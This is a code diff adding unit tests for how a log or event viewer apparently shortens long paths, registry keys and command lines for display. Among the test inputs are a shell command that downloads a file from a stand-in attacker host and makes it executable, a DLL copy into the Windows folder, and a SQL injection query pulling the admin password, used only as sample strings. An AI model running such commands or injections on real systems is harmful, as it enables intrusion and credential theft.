@@ -52,3 +52,23 @@ def test_what_nobody_can_read_has_no_fields() -> None:
 def test_a_long_value_is_cut_in_its_row_and_not_carried_in_an_address() -> None:
     value = value_of("CommandLine", "x " * 400)
     assert len(value.text) == 160 and value.text.endswith("…") and value.full == ""
+
+
+def test_of_a_long_path_its_row_shows_the_end_which_tells_files_apart() -> None:
+    deep = r"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe"
+    value = value_of("Image", deep)
+    assert value.text == r"…\System32\WindowsPowerShell\v1.0\powershell.exe" and value.full == deep
+    key = r"HKLM\System\CurrentControlSet\Control\MiniNt" + "\\" + "k" * 60
+    assert value_of("TargetObject", key).text == "…" + "k" * 47
+    folder = "/" + "f" * 60 + "/"
+    assert value_of("path", folder).text == "…" + "f" * 46 + "/"
+
+
+def test_a_path_that_fits_and_a_program_with_its_arguments_are_shown_from_their_beginning() -> None:
+    for text in (
+        r"C:\Windows\System32\whoami.exe",
+        r"C:\Windows\System32\cmd.exe /c copy C:\Users\Public\a.dll C:\Windows\b.dll",
+        "/bin/sh -c 'wget http://evil.example/a -O /tmp/a; chmod +x /tmp/a'",
+        "/index.php?q=' UNION SELECT password FROM users WHERE name='admin'",
+    ):
+        assert value_of("CommandLine", text).text == text
